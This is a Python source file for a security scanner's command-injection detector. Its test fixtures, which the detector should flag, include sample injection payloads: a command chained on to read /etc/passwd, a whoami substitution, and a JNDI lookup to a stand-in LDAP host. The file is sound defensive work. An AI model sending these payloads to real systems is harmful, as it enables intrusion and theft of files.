"""Commands handed in as a value.

Finds:
    Commands chained on with separators, substitutions, reverse shells, interpreter calls,
    shellshock, JNDI look-ups and expressions of application runtimes.

Why it matters:
    A value that reaches a shell or an interpreter runs with the server's rights.

Example:
    GET /ping?host=127.0.0.1;cat+/etc/passwd

Does not find:
    Bare program names in prose; commands a program was made to take.
"""

from __future__ import annotations

from collections.abc import Iterator

from signoff.assess.detectors.detector import CallMark, Detector, Evidence
from signoff.assess.detectors.matching import in_request, request
from signoff.assess.finding import Finding

ID = "command-injection"


def run(evidence: Evidence) -> Iterator[Finding]:
    """Yield at most one finding of command injection in the values of a web request."""
    return in_request(evidence, ID, "command")


DETECTOR = Detector(
    id=ID,
    run=run,
    title="Commands handed in as a value",
    families=("command",),
    cwe=("CWE-77", "CWE-78", "CWE-94"),
    asi=("ASI02", "ASI05"),
    marks=frozenset({CallMark.HITS}),
    fires=(
        request(query={"q": "127.0.0.1; cat /etc/passwd"}),
        request(query={"q": "x$(whoami)"}),
        request(query={"q": "${jndi:ldap://h.example/a}"}),
    ),
    passes=(
        request(query={"q": "cats; dogs; and other animals"}),
        request(query={"q": "Use `tar` to unpack it"}),
        request(query={"q": "R&D | sales"}),
    ),
)
